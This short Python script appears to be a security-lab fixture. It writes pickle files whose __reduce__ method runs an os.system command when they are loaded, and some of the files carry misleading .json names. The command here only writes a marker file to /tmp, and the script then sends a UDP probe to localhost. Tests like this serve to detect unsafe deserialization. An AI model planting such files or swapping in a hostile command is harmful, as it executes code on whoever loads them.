import os, pickle


class Payload:
    def __reduce__(self):
        return os.system, ("echo loaded > /tmp/netlab-pickle-was-loaded",)


for name in ("result.pickle", "result.json", "cache.pkl", "evidence.json", "run.json"):
    with open(name, "wb") as file:
        pickle.dump(Payload(), file)

import socket

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
    client.settimeout(5)
    client.sendto(b"A", ("127.0.0.1", 20000))
    print(client.recv(16))
